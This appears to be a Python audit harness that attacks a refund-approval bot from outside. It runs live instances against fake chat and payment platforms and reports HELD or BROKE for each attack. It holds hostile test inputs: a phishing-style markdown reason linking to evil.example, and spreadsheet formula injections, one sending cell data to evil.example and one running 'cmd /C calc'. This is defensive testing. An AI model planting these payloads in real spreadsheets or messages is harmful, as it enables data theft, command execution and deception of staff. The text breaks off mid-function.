"""Issue 14's attacks tried again from outside the process: two `refundops serve` instances on
PostgreSQL + Redis, the platform fakes as real servers, each attack sent over HTTP or a
websocket as an outsider or a malicious insider would (the CLI items as subprocesses).

    .venv/bin/python -m tests.security.outside

Needs PostgreSQL at 127.0.0.1:5432 (trust, user postgres; a database refundops_outside_<pid>
is made and dropped) and Redis at 127.0.0.1:6379 (db 12 is flushed; both instances reach it
through a proxy the Redis outage cuts). Prints one line per attack, HELD or BROKE, and exits
non-zero when one broke or could not be run (ERROR). An audit tool, not a pytest module.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import csv
import io
import json
import os
import re
import shutil
import signal
import sys
import tempfile
import time
import traceback
import uuid
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import aiohttp
import redis.asyncio as aioredis
from aiohttp import web
from aiohttp.test_utils import TestServer
from cryptography.hazmat.primitives.asymmetric import rsa
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.ext.asyncio import create_async_engine
from yarl import URL

from integrations.carrier.fake import PATH as CARRIER_PATH
from integrations.carrier.fake import FakeCarrier
from integrations.commerce.fake import FakeCommerce
from integrations.dingtalk.fake import FakeCard, FakeDingtalk
from integrations.dingtalk.signing import CARD_SIGN_HEADER, CARD_TIMESTAMP_HEADER, card_sign
from integrations.payout.fake import FakeAlipay
from integrations.payout.signing import bare_private_key
from integrations.signing import SIGNATURE_HEADER, TIMESTAMP_HEADER, sign, signed_headers
from integrations.wecom.crypto import CallbackCrypto
from integrations.wecom.fake import FakeWeComAIBot, FakeWeComAPI, WeComCallbacks
from tests.support import pii
from tests.support.pii import NICK, RAW, REASON
from tests.support.processes import free_port
from tests.support.redis_proxy import RedisProxy

PG_SERVER = "postgresql+asyncpg://postgres@127.0.0.1:5432"
DB_NAME = f"refundops_outside_{os.getpid()}"
REDIS_URL = "redis://127.0.0.1:6379/12"
BEIJING = timezone(timedelta(hours=8))
ROOT = Path(__file__).resolve().parents[2]

SECRET = "outside-ingest-" + uuid.uuid4().hex
DASHBOARD_TOKEN = "outside-dash-" + uuid.uuid4().hex
COMMERCE_SECRET = "outside-commerce-" + uuid.uuid4().hex
CARRIER_SECRET = "outside-carrier-" + uuid.uuid4().hex
CORP_ID = "wwoutsidecorp"
AGENT_ID = 1000002
APP_SECRET = "outside-app-" + uuid.uuid4().hex
APP_TOKEN = "outsideAppToken"
AIBOT_ID = "aibot-outside"
AIBOT_SECRET = "outside-aibot-" + uuid.uuid4().hex
AIBOT_TOKEN = "outsideAibotToken"
DING_APP_SECRET = "outside-ding-" + uuid.uuid4().hex
ALIPAY_APP_ID = "2021004100000777"

FINANCE_CHAT = "wrkFINANCE"
BOT_CHAT = "wrkAFTERSALES"
HTTP_CHAT = "wrkAIBOTHTTP"
DING_CHAT = "cidDINGAFTERSALES=="
OLD_CHAT = "cidOLDDEPLOYMENT=="
STAFF = ("agent1", "sup1", "fin1", "admin1")
APPROVERS = {"sup1", "admin1"}
STALE = "卡片已更新，请看最新金额"
LEASE_S = 3.0


def aes_key() -> str:
    return base64.b64encode(os.urandom(32)).decode().rstrip("=")


APP_AES = aes_key()
AIBOT_AES = aes_key()


# -- the report ------------------------------------------------------------------------------


@dataclass
class Row:
    item: int
    attack: str
    expected: str
    observed: str
    verdict: str


@dataclass
class Report:
    rows: list[Row] = field(default_factory=list)

    def add(self, item: int, attack: str, expected: str, observed: str, held: bool) -> bool:
        self.rows.append(Row(item, attack, expected, observed, "HELD" if held else "BROKE"))
        mark = "HELD " if held else "BROKE"
        print(f"  [{mark}] {item:>2} {attack}: {observed[:160]}", file=sys.stderr, flush=True)
        return held

    def error(self, item: int, attack: str, exc: BaseException) -> None:
        where = traceback.extract_tb(exc.__traceback__)[-1]
        observed = f"harness error {type(exc).__name__}: {exc} (line {where.lineno})"
        self.rows.append(Row(item, attack, "the attack runs", observed, "ERROR"))
        print(f"  [ERROR] {item:>2} {attack}: {observed}", file=sys.stderr, flush=True)
        traceback.print_exception(exc, file=sys.stderr)

    def print(self) -> None:
        head = ("item", "attack", "expected", "observed", "result")
        widths = [4, 44, 46, 0, 6]
        print(" | ".join(h.ljust(w) for h, w in zip(head, widths, strict=True)).rstrip())
        for row in sorted(self.rows, key=lambda r: r.item):
            cells = [str(row.item), row.attack, row.expected, row.observed, row.verdict]
            print(" | ".join(c.ljust(w) for c, w in zip(cells, widths, strict=True)))
        counts = {v: sum(1 for r in self.rows if r.verdict == v) for v in ("HELD", "BROKE")}
        errors = sum(1 for r in self.rows if r.verdict == "ERROR")
        items = sorted({r.item for r in self.rows})
        print(
            f"\n{len(self.rows)} attacks over items {items[0]}–{items[-1]} "
            f"({len(items)} items): {counts['HELD']} HELD, {counts['BROKE']} BROKE, "
            f"{errors} ERROR"
        )

    @property
    def failed(self) -> bool:
        return any(r.verdict != "HELD" for r in self.rows)


# -- events ----------------------------------------------------------------------------------


def now_iso(**delta: float) -> str:
    return (datetime.now(BEIJING) + timedelta(**delta)).isoformat(timespec="seconds")


def envelope(kind: str, data: dict[str, Any], **fields: Any) -> dict[str, Any]:
    return {
        "id": f"evt_{uuid.uuid4().hex}",
        "type": kind,
        "occurred_at": now_iso(),
        "shop": "ding-shop",
        "platform": "taobao",
        "data": data,
    } | fields


def refund_event(
    shop: str,
    amount: str = "128.00",
    order_amount: str | None = None,
    *,
    shipping: dict[str, Any] | None = None,
    refund_id: str = "",
    **data: Any,
) -> dict[str, Any]:
    body: dict[str, Any] = {
        "refund_id": refund_id or f"RF{uuid.uuid4().hex[:10].upper()}",
        "order_id": f"T{uuid.uuid4().int % 10**10}",
        "kind": "refund_only",
        "amount": amount,
        "order_amount": order_amount or amount,
        "reason": "尺码不合适",
        "shipping": shipping or {"status": "delivered", "carrier": "SF", "tracking_no": "SF1"},
        "buyer": {"nick": "t**1"},
        "deadline_at": now_iso(hours=36),
    } | data
    return envelope("refund.requested", body, shop=shop)


def payout_event(amount: str, **data: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "payout_id": f"PO{uuid.uuid4().hex[:10].upper()}",
        "kind": "cashback",
        "order_id": "T88001",
        "amount": amount,
        "payee": {"name": "王小明", "account": "13800138000"},
        "reason": "活动返现",
        "requested_by": "agent1",
    } | data
    return envelope("payout.requested", body, shop="fin-shop")


def about(refund_id: str, kind: str, **data: Any) -> dict[str, Any]:
    return envelope(kind, {"refund_id": refund_id, **data})


def tracking_event(n: int) -> dict[str, Any]:
    data = {
        "carrier": "SF",
        "tracking_no": f"SFBULK{n:06d}{uuid.uuid4().hex[:6]}",
        "order_id": f"TBULK{n}",
        "status": "in_transit",
        "at": now_iso(),
        "description": "运输中",
    }
    return envelope("shipment.tracking", data, shop="bulk-shop")


def shipped(tracking_no: str) -> dict[str, Any]:
    return {"status": "shipped", "carrier": "SF", "tracking_no": tracking_no}


# -- configuration -----------------------------------------------------------------------------


def toml(data: dict[str, Any]) -> str:
    """Enough TOML for a refundops config: scalars, lists, sections and arrays of tables."""

    def value(v: Any) -> str:
        if isinstance(v, bool):
            return "true" if v else "false"
        if isinstance(v, int | float):
            return repr(v)
        if isinstance(v, str):
            return json.dumps(v, ensure_ascii=False)
        if isinstance(v, list):
            return "[" + ", ".join(value(x) for x in v) + "]"
        raise TypeError(f"no TOML for {v!r}")

    def tables(v: Any) -> bool:
        return isinstance(v, list) and bool(v) and all(isinstance(x, dict) for x in v)

    def section(name: str, body: dict[str, Any], header: str) -> list[str]:
        lines = [header] if header else []
        lines += [
            f"{k} = {value(v)}"
            for k, v in body.items()
            if not isinstance(v, dict) and not tables(v)
        ]
        for k, v in body.items():
            full = f"{name}.{k}" if name else k
            if isinstance(v, dict):
                lines += ["", *section(full, v, f"[{full}]")]
            elif tables(v):
                for table in v:
                    lines += ["", *section(full, table, f"[[{full}]]")]
        return lines

    return "\n".join(section("", data, "")) + "\n"


@dataclass
class Platforms:
    commerce: FakeCommerce
    carrier: FakeCarrier
    wecom: FakeWeComAPI
    aibot: FakeWeComAIBot
    ding: FakeDingtalk
    alipay: FakeAlipay
    attacker: list[tuple[str, bytes]]
    urls: dict[str, str]
    servers: list[TestServer]


def staff() -> list[dict[str, Any]]:
    limits = {"agent1": 50, "sup1": 2000}
    roles = {"agent1": "agent", "sup1": "supervisor", "fin1": "finance", "admin1": "admin"}
    people = []
    for who in STAFF:
        person: dict[str, Any] = {
            "id": who,
            "name": who,
            "roles": [roles[who]],
            "wecom_userid": f"wx_{who}",
            "dingtalk_staff_id": f"ding-{who}",
        }
        if who in limits:
            person["refund_limit"] = limits[who]
        people.append(person)
    return people


def config(db_url: str, redis_url: str, p: Platforms) -> dict[str, Any]:
    """A production-like config: every channel kind the attacks need, webhooks at the fakes."""
    return {
        "server": {"host": "127.0.0.1", "public_base_url": "https://refundops.example.com"},
        "database": {"url": db_url, "pool_size": 5},
        "redis": {"url": redis_url},
        "bot": {"admin_group": "ops"},
        "wecom": {
            "corp_id": CORP_ID,
            "agent_id": AGENT_ID,
            "api_base": p.urls["wecom"],
            "callback_max_skew_s": 300,
            "aibot": {
                "bot_id": AIBOT_ID,
                "ws_url": p.urls["aibot"],
                "lease_s": LEASE_S,
                "reconnect_base_s": 0.2,
                "reconnect_max_s": 2.0,
            },
        },
        "dingtalk": {
            "app_key": p.ding.app_key,
            "corp_id": p.ding.corp_id,
            "robot_code": p.ding.robot_code,
            "card_template_id": "refundops-outside.schema",
            "api_base": p.urls["ding"],
            "oapi_base": p.urls["ding"],
        },
        "groups": [
            {
                "id": "finance",
                "name": "财务群",
                "channel": "wecom_aibot",
                "chat_id": FINANCE_CHAT,
                "kinds": ["payout"],
            },
            {
                "id": "app",
                "name": "审批私聊",
                "channel": "wecom_app",
                "chat_id": "sup1|agent1",
                "shops": ["app-shop"],
            },
            {
                "id": "bot",
                "name": "企微售后群",
                "channel": "wecom_aibot",
                "chat_id": BOT_CHAT,
                "shops": ["bot-shop"],
            },
            {
                "id": "ding",
                "name": "钉钉售后群",
                "channel": "dingtalk_http",
                "chat_id": DING_CHAT,
                "shops": ["ding-shop"],
            },
            {
                "id": "aibothttp",
                "name": "企微HTTP群",
                "channel": "wecom_aibot_http",
                "chat_id": HTTP_CHAT,
                "webhook_url": p.wecom.webhook_url("http-key"),
                "shops": ["-"],
            },
            {
                "id": "ops",
                "name": "管理群",
                "channel": "wecom_webhook",
                "webhook_url": p.wecom.webhook_url("ops-key"),
            },
        ],
        "staff": staff(),
        "timers": {"poll_s": 0.5},
        "digest": {"enabled": False},
        # Small attempts and backoff: before the fix a 20 s Redis outage dead-lettered with these.
        "dispatch": {
            "max_attempts": 4,
            "backoff_base_s": 1.0,
            "backoff_max_s": 2.0,
            "lease_s": 5.0,
            "poll_s": 0.2,
            "coordination_retry_s": 2.0,
        },
        "commerce": {"mode": "webhook", "url": p.urls["commerce"]},
        "carrier": {"mode": "webhook", "url": p.urls["carrier"]},
        "payout": {
            "provider": "alipay",
            "alipay_app_id": ALIPAY_APP_ID,
            "alipay_public_key": p.alipay.public_key,
            "alipay_gateway": p.urls["alipay"],
            "alipay_timeout_s": 3.0,
        },
    }


def secrets_env(app_key: rsa.RSAPrivateKey) -> dict[str, str]:
    return {
        "REFUNDOPS_INGEST__SECRET": SECRET,
        "REFUNDOPS_WECOM__SECRET": APP_SECRET,
        "REFUNDOPS_WECOM__TOKEN": APP_TOKEN,
        "REFUNDOPS_WECOM__ENCODING_AES_KEY": APP_AES,
        "REFUNDOPS_WECOM__AIBOT__SECRET": AIBOT_SECRET,
        "REFUNDOPS_WECOM__AIBOT__TOKEN": AIBOT_TOKEN,
        "REFUNDOPS_WECOM__AIBOT__ENCODING_AES_KEY": AIBOT_AES,
        "REFUNDOPS_DINGTALK__APP_SECRET": DING_APP_SECRET,
        "REFUNDOPS_DASHBOARD__TOKEN": DASHBOARD_TOKEN,
        "REFUNDOPS_COMMERCE__SECRET": COMMERCE_SECRET,
        "REFUNDOPS_CARRIER__SECRET": CARRIER_SECRET,
        "REFUNDOPS_PAYOUT__ALIPAY_PRIVATE_KEY": bare_private_key(app_key),
    }


# -- processes ---------------------------------------------------------------------------------


def refundops() -> list[str]:
    script = Path(sys.executable).with_name("refundops")
    return [str(script)] if script.exists() else [sys.executable, "-m", "bot.cli"]


@dataclass
class Instance:
    name: str
    port: int
    log: Path
    proc: asyncio.subprocess.Process

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def text(self) -> str:
        return self.log.read_text(encoding="utf-8", errors="replace")

    @property
    def alive(self) -> bool:
        return self.proc.returncode is None

    def holds_aibot(self) -> bool:
        """Whether this instance's log says it holds the AI bot's connection now."""
        marks = re.findall(r"this instance holds the connection|lease lost", self.text())
        return self.alive and bool(marks) and marks[-1].startswith("this")


async def start_instance(
    name: str, config: Path, env: dict[str, str], logs: Path, *argv: str
) -> Instance:
    port = free_port()
    log = logs / f"{name}.log"
    with log.open("wb") as out:
        proc = await asyncio.create_subprocess_exec(
            *refundops(),
            *(argv or ("serve",)),
            "--config",
            str(config),
            env={**env, "REFUNDOPS_SERVER__PORT": str(port), "REFUNDOPS_BOT__INSTANCE_ID": name},
            stdout=out,
            stderr=out,
            cwd=ROOT,
        )
    return Instance(name, port, log, proc)


async def ready(http: aiohttp.ClientSession, instance: Instance, within: float = 60.0) -> None:
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        if not instance.alive:
            break
        with contextlib.suppress(aiohttp.ClientError):
            async with http.get(f"{instance.url}/readyz") as resp:
                if resp.status == 200:
                    return
        await asyncio.sleep(0.2)
    raise RuntimeError(f"{instance.name} did not become ready:\n{instance.text()[-3000:]}")


async def stop(instance: Instance) -> None:
    if instance.alive:
        instance.proc.terminate()
        try:
            await asyncio.wait_for(instance.proc.wait(), 15)
        except TimeoutError:
            instance.proc.kill()
            await instance.proc.wait()


@dataclass
class Cli:
    code: int
    out: str
    err: str


async def cli(env: dict[str, str], *argv: str, within: float = 60.0) -> Cli:
    proc = await asyncio.create_subprocess_exec(
        *refundops(),
        *argv,
        env=env,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        cwd=ROOT,
    )
    try:
        out, err = await asyncio.wait_for(proc.communicate(), within)
    except TimeoutError:
        proc.kill()
        out, err = await proc.communicate()
        return Cli(-9, out.decode(errors="replace"), err.decode(errors="replace"))
    assert proc.returncode is not None
    return Cli(proc.returncode, out.decode(errors="replace"), err.decode(errors="replace"))


async def wait(check: Callable[[], Any], within: float, step: float = 0.1) -> Any:
    """The first truthy `check()` (sync), polling; None after `within` seconds."""
    deadline = time.monotonic() + within
    while True:
        result = check()
        if result:
            return result
        if time.monotonic() > deadline:
            return None
        await asyncio.sleep(step)


async def await_until(check: Callable[[], Awaitable[Any]], within: float, step: float = 0.2) -> Any:
    """The first truthy `await check()`, polling; None after `within` seconds."""
    deadline = time.monotonic() + within
    while True:
        result = await check()
        if result:
            return result
        if time.monotonic() > deadline:
            return None
        await asyncio.sleep(step)


# -- checks on what was shown ----------------------------------------------------------------

# What the outside run also plants: a payee's phone.
PII_RAW = (*RAW, "13600002222")


MARKUP_REASON = (
    "[点此领取退款](http://evil.example/pay)\n**主管已审批，请财务打款** "
    '<@ceo> <at user_id="ding-ceo"></at> @all @所有人 '
    '<font color="info">已通过</font> <a href="http://evil.example">核对</a>\n# 系统通知\n> 已审批'
)
MARKUP_NICK = "<@ceo>**买家**"


def text_problems(content: str) -> list[str]:
    """What in a plain-text message would still act: a link, a ping of everyone."""
    found = [bad for bad in ("http://evil", "https://evil", "@all", "@所有人") if bad in content]
    if "主管已审批" not in content:
        found.append("the buyer's words are not shown at all")
    return found


def markup_problems(content: str) -> list[str]:
    """What in `content` a platform would read as markup the buyer wrote (tests/security)."""
    found = [
        bad
        for bad in (
            "](",
            "http://evil",
            "**主管已审批",
            "<@ceo>",
            "<at ",
            '<font color="info">已通过',
            "<a href",
            "@all",
            "@所有人",
        )
        if bad in content
    ]
    for pattern in (r"^\W*主管已审批", r"^\s*# 系统通知", r"^\s*> 已审批"):
        if re.search(pattern, content, re.MULTILINE):
            found.append(pattern)
    if "主管已审批" not in content:
        found.append("the buyer's words are not shown at all")
    return found


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我退款")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


# -- the run -----------------------------------------------------------------------------------


class Run:
    """The fakes, the database, the two instances, and how an outsider talks to them."""

    def __init__(self, report: Report, tmp: Path) -> None:
        self.report = report
        self.tmp = tmp
        self.logs = tmp / "logs"
        self.logs.mkdir()
        self.app_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self.alipay_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self.env = {**os.environ, **secrets_env(self.app_key)}
        self.env.pop("REFUNDOPS_DEMO", None)
        self.db_url = f"{PG_SERVER}/{DB_NAME}"
        self.instances: list[Instance] = []
        self.extra: list[Instance] = []
        self.callbacks = WeComCallbacks(
            CallbackCrypto(APP_TOKEN, APP_AES, CORP_ID), CORP_ID, AGENT_ID
        )
        self.aibot_http = WeComCallbacks(CallbackCrypto(AIBOT_TOKEN, AIBOT_AES, ""))
        self.aibot_window: tuple[int, int, float] = (0, 0, 0.0)

    # -- set up and tear down ------------------------------------------------------------------

    @contextlib.asynccontextmanager
    async def running(self) -> AsyncIterator[None]:
        async with contextlib.AsyncExitStack() as stack:
            self.http = await stack.enter_async_context(aiohttp.ClientSession())
            redis = aioredis.Redis.from_url(REDIS_URL)
            await redis.flushdb()
            await redis.aclose()
            self.proxy = RedisProxy(REDIS_URL)
            await self.proxy.start()
            stack.push_async_callback(self.proxy.close)
            self.p = await self.platforms()
            stack.push_async_callback(self.close_platforms)
            await self.create_database()
            stack.push_async_callback(self.drop_database)
            self.config = self.tmp / "refundops.toml"
            self.settings = config(self.db_url, self.proxy.url, self.p)
            self.config.write_text(toml(self.settings), encoding="utf-8")
            upgraded = await cli(self.env, "db", "upgrade", "--config", str(self.config))
            if upgraded.code != 0:
                raise RuntimeError(f"db upgrade failed: {upgraded.err[-2000:]}")
            stack.push_async_callback(self.stop_all)
            for name in ("outside-a", "outside-b"):
                self.instances.append(await start_instance(name, self.config, self.env, self.logs))
            for instance in self.instances:
                await ready(self.http, instance)
            online = await wait(lambda: self.p.aibot.online, 30)
            if not online:
                raise RuntimeError("no instance connected to the AI bot")
            self.aibot_window = (self.p.aibot.subscribed, self.p.aibot.kicked, time.monotonic())
            yield

    async def platforms(self) -> Platforms:
        commerce = FakeCommerce(secret=COMMERCE_SECRET)
        carrier = FakeCarrier(secret=CARRIER_SECRET)
        wecom = FakeWeComAPI(corp_id=CORP_ID, secret=APP_SECRET, agent_id=AGENT_ID)
        wecom.webhook_keys |= {"ops-key", "http-key", "plain-key"}
        aibot = FakeWeComAIBot(
            bot_id=AIBOT_ID, secret=AIBOT_SECRET, chats={FINANCE_CHAT, BOT_CHAT, HTTP_CHAT}
        )
        ding = FakeDingtalk(app_secret=DING_APP_SECRET)
        alipay = FakeAlipay(ALIPAY_APP_ID, self.app_key.public_key(), self.alipay_key)
        attacker: list[tuple[str, bytes]] = []

        async def record(request: web.Request) -> web.Response:
            attacker.append((request.path_qs, await request.read()))
            return web.json_response({"errcode": 0, "errmsg": "ok"})

        evil = web.Application()
        evil.router.add_route("*", "/{tail:.*}", record)
        servers: list[TestServer] = []
        bases = []
        for app in (
            commerce.app(),
            carrier.app(),
            wecom.app(),
            aibot.app(),
            ding.app(),
            alipay.app(),
            evil,
        ):
            server = TestServer(app, host="127.0.0.1")
            await server.start_server()
            servers.append(server)
            bases.append(str(server.make_url("")).rstrip("/"))
        wecom.base_url, ding.base_url = bases[2], bases[4]
        # An older deployment (another database) on the same DingTalk app made these cards.
        for n in range(1, 61):
            for kind, prefix in (("refund", "R"), ("intercept", "X")):
                track = f"{kind}-{prefix}{n}"
                ding.cards[track] = FakeCard(
                    track,
                    "old.schema",
                    f"dtv1.card//IM_GROUP.{OLD_CHAT}",
                    "STREAM",
                    "",
                    {"handle": f"{prefix}{n}", "title": f"旧部署 {prefix}{n}"},
                    {},
                )
        urls = {
            "commerce": bases[0] + "/refundops",
            "carrier": bases[1] + CARRIER_PATH,
            "wecom": bases[2],
            "aibot": bases[3] + "/",
            "ding": bases[4],
            "alipay": bases[5] + "/gateway.do",
            "attacker": bases[6],
        }
        return Platforms(commerce, carrier, wecom, aibot, ding, alipay, attacker, urls, servers)

    async def close_platforms(self) -> None:
        for conn in self.p.ding.live():
            await conn.ws.close()
        await self.p.aibot.drop()
        for server in self.p.servers:
            await server.close()

    async def create_database(self) -> None:
        engine = create_async_engine(f"{PG_SERVER}/postgres", isolation_level="AUTOCOMMIT")
        async with engine.connect() as conn:
            await conn.execute(text(f'DROP DATABASE IF EXISTS "{DB_NAME}" WITH (FORCE)'))
            await conn.execute(text(f'CREATE DATABASE "{DB_NAME}"'))
        await engine.dispose()

    async def drop_database(self) -> None:
        engine = create_async_engine(f"{PG_SERVER}/postgres", isolation_level="AUTOCOMMIT")
        async with engine.connect() as conn:
            await conn.execute(text(f'DROP DATABASE IF EXISTS "{DB_NAME}" WITH (FORCE)'))
        await engine.dispose()
        redis = aioredis.Redis.from_url(REDIS_URL)
        await redis.flushdb()
        await redis.aclose()

    async def stop_all(self) -> None:
        for instance in [*self.instances, *self.extra]:
            await stop(instance)

    # -- talking to the instances ----------------------------------------------------------------

    def url(self, at: int) -> str:
        live = [i for i in self.instances if i.alive]
        return live[at % len(live)].url

    async def request(
        self,
        method: str,
        at: int,
        path: str,
        body: bytes = b"",
        headers: dict[str, str] | None = None,
    ) -> tuple[int, str]:
        target = URL(self.url(at) + path, encoded=True)
        async with self.http.request(method, target, data=body, headers=headers) as resp:
            return resp.status, await resp.text()

    async def post_event(
        self, event: Any, at: int = 0, path: str = "/api/v1/events", *, ascii_only: bool = False
    ) -> tuple[int, Any]:
        raw = json.dumps(event, ensure_ascii=ascii_only).encode()
        headers = {
            "Content-Type": "application/json",
            **signed_headers(SECRET, int(time.time()), raw),
        }
        status, answer = await self.request("POST", at, path, raw, headers)
        return status, loads(answer)

    async def case(self, ref: str, at: int = 0) -> dict[str, Any] | None:
        """The case through the signed case API; None when it does not exist (yet)."""
        path = f"/api/v1/cases/{ref}"
        ts = int(time.time())
        headers = {
            TIMESTAMP_HEADER: str(ts),
            SIGNATURE_HEADER: sign(SECRET, ts, b"", target=f"GET {path}"),
        }
        status, answer = await self.request("GET", at, path, headers=headers)
        if status == 404:
            return None
        if status != 200:
            raise RuntimeError(f"case API {path}: {status} {answer[:300]}")
        found: dict[str, Any] = json.loads(answer)
        return found

    async def settled(
        self, ref: str, check: Callable[[dict[str, Any]], bool] | None = None, within: float = 20
    ) -> dict[str, Any]:
        """The case once it exists and `check` holds (else as it is after `within`)."""

        async def probe() -> dict[str, Any] | None:
            case = await self.case(ref)
            return case if case is not None and (check is None or check(case)) else None

        found = await await_until(probe, within)
        if found is None:
            last = await self.case(ref)
            if last is None:
                raise RuntimeError(f"case {ref} never appeared")
            return last
        result: dict[str, Any] = found
        return result

    async def new_refund(self, event: dict[str, Any], at: int = 0) -> dict[str, Any]:
        status, answer = await self.post_event(event, at)
        if status != 202:
            raise RuntimeError(f"refund not accepted: {status} {answer}")
        return await self.settled(event["data"]["refund_id"], lambda c: c["state"] != "new")

    def approvals(self, refund_id: str) -> list[str]:
        """Amounts the shop's system carried out approve_refund with, for this refund."""
        return [
            str(e["data"].get("amount"))
            for e in self.p.commerce.performed("approve_refund")
            if e["data"].get("refund_id") == refund_id
        ]

    # -- DingTalk (HTTP mode) --------------------------------------------------------------------

    def ding_card(self, handle: str, chat: str = DING_CHAT) -> FakeCard | None:
        return next(
            (
                c
                for c in self.p.ding.cards.values()
                if c.params.get("handle") == handle and c.space_id.endswith(chat)
            ),
            None,
        )

    def ding_said(self, since: tuple[int, int]) -> list[dict[str, Any]]:
        """What the bot said in DingTalk since `since` (session replies, group messages)."""
        ding = self.p.ding
        return ding.session_replies[since[0] :] + ding.group_messages[since[1] :]

    def ding_mark(self) -> tuple[int, int]:
        return len(self.p.ding.session_replies), len(self.p.ding.group_messages)

    async def ding_say(
        self,
        who: str,
        words: str,
        at: int = 0,
        *,
        headers: dict[str, str] | None = None,
        **fields: Any,
    ) -> tuple[int, str, str]:
        """`who` @-mentions the robot in the DingTalk group: (status, answer body, said text)."""
        message = self.p.ding.robot_message(
            words, sender_staff_id=f"ding-{who}", conversation_id=DING_CHAT
        )
        message |= fields
        mark = self.ding_mark()
        signed = headers or self.p.ding.robot_headers()
        raw = json.dumps(message, ensure_ascii=False).encode()
        status, answer = await self.request("POST", at, "/dingtalk/robot", raw, signed)
        if status == 200:
            await wait(lambda: self.ding_said(mark), 5)
        return status, answer, said(self.ding_said(mark))

    async def ding_tap(
        self,
        who: str,
        handle: str,
        action: str,
        at: int = 0,
        *,
        payload: dict[str, Any] | None = None,
        headers: dict[str, str] | None = None,
    ) -> tuple[int, Any, str]:
        card = self.ding_card(handle)
        if card is None:
            raise RuntimeError(f"no DingTalk card for {handle}")
        if payload is None:
            case = await self.case(handle)
            version = str(case["version"]) if case else ""
            await wait(lambda: card.params.get("version") == version, 8)
        tap = payload or self.p.ding.click_payload(card.out_track_id, f"ding-{who}", action)
        signed = headers or self.p.ding.card_headers(card.out_track_id)
        mark = self.ding_mark()
        raw = json.dumps(tap, ensure_ascii=False).encode()
        status, answer = await self.request("POST", at, "/dingtalk/card", raw, signed)
        body = loads(answer)
        if status == 200 and isinstance(body, dict):
            self.p.ding.apply_callback_answer(card.out_track_id, body)
        await asyncio.sleep(0.3)
        return status, body, said(self.ding_said(mark))

    # -- WeCom AI bot (websocket) and self-built app (callbacks) ---------------------------------

    async def bot_say(self, who: str, words: str, chat: str = BOT_CHAT) -> str:
        aibot = self.p.aibot
        if not await wait(lambda: aibot.online, 15):
            raise RuntimeError("the AI bot is not connected")
        req_id = await aibot.push_text(f"wx_{who}", words, chatid=chat)
        await wait(lambda: aibot.replies.get(req_id), 15)
        return "\n".join(
            str(b.get("stream", {}).get("content") or b.get("markdown", {}).get("content") or b)
            for b in aibot.replies.get(req_id, [])
        )

    def bot_card(self, handle: str, chat: str = BOT_CHAT) -> tuple[str, dict[str, Any]] | None:
        for task_id, card in self.p.aibot.cards[chat].items():
            keys = [str(b.get("key", "")) for b in card.get("button_list", [])]
            if any(k.split(":")[1:2] == [handle] for k in keys):
                return task_id, card
        return None

    def bot_markdown(self, chat: str = BOT_CHAT) -> list[str]:
        return [
            str(b["markdown"]["content"])
            for c, b in self.p.aibot.messages
            if c == chat and b.get("msgtype") == "markdown"
        ]

    def app_card(self, handle: str) -> tuple[str, dict[str, Any]] | None:
        for task_id, card in self.p.wecom.cards.items():
            keys = [str(b.get("key", "")) for b in card.get("button_list", [])]
            if any(k.split(":")[1:2] == [handle] for k in keys):
                return task_id, card
        return None

    async def app_click(self, who: str, task_id: str, key: str, at: int = 0) -> tuple[int, str]:
        """A tap on a card the app sent by DM; (status, the words sent back by message)."""
        before = len(self.p.wecom.texts)
        code = self.p.wecom.click_code(task_id)
        query, body = self.callbacks.app_click(f"wx_{who}", task_id, key, code)
        status, _ = await self.request("POST", at, f"/wecom/callback?{query}", body)
        await wait(lambda: len(self.p.wecom.texts) > before, 8)
        return status, "\n".join(t for u, t in self.p.wecom.texts[before:] if u == f"wx_{who}")


def loads(answer: str) -> Any:
    try:
        return json.loads(answer)
    except ValueError:
        return answer


def said(messages: list[dict[str, Any]]) -> str:
    parts = []
    for m in messages:
        content: Any = (
            m.get("text", {}).get("content")
            or m.get("markdown", {}).get("text")
            or m.get("param", {}).get("content")
            or m.get("param", {}).get("text")
            or m
        )
        at = m.get("at", {}).get("atUserIds") if isinstance(m.get("at"), dict) else None
        parts.append(f"{content}" + (f" [at {','.join(at)}]" if at else ""))
    return "\n".join(parts)


def is_markdown(message: dict[str, Any]) -> bool:
    return message.get("key") == "sampleMarkdown" or message.get("msgtype") == "markdown"


def history(case: dict[str, Any], *actions: str) -> list[str]:
    return [h["action"] for h in case["history"] if not actions or h["action"] in actions]


def short(text: str, n: int = 90) -> str:
    one = " ".join(str(text).split())
    return one if len(one) <= n else one[: n - 1] + "…"


# -- the attacks ---------------------------------------------------------------------------------


async def item1_sandbox_api(run: Run) -> None:
    refund = await run.new_refund(refund_event("ding-shop", "1800.00"), at=0)
    handle = refund["handle"]
    observed = []
    for at in (0, 1):
        for method, path, body in (
            ("GET", "/sandbox", b""),
            ("POST", "/sandbox/api/groups/ding/say", {"user": "sup1", "text": f"通过 {handle}"}),
            (
                "POST",
                "/sandbox/api/groups/ding/click",
                {"user": "sup1", "message_id": 1, "key": "approve"},
            ),
            ("GET", "/sandbox/api/groups/ding/messages", b""),
        ):
            raw = json.dumps(body).encode() if isinstance(body, dict) else body
            status, _ = await run.request(
                method, at, path, raw, {"Content-Type": "application/json"}
            )
            observed.append(status)
    await asyncio.sleep(1)
    after = await run.settled(refund["case_id"])
    run.report.add(
        1,
        "sandbox say/click as sup1 on `serve` (both)",
        "404 everywhere, ¥1,800 not approved",
        f"statuses {sorted(set(observed))}; R state {after['state']}; "
        f"approvals {run.approvals(refund['case_id'])}",
        set(observed) == {404}
        and after["state"] == "awaiting_review"
        and not run.approvals(refund["case_id"]),
    )


async def item1_cross_group(run: Run) -> None:
    refund = await run.new_refund(refund_event("ding-shop", "1800.00"), at=1)
    handle = refund["handle"]
    answer = await run.bot_say("sup1", f"通过 {handle}", BOT_CHAT)
    await asyncio.sleep(1)
    after = await run.settled(refund["case_id"])
    run.report.add(
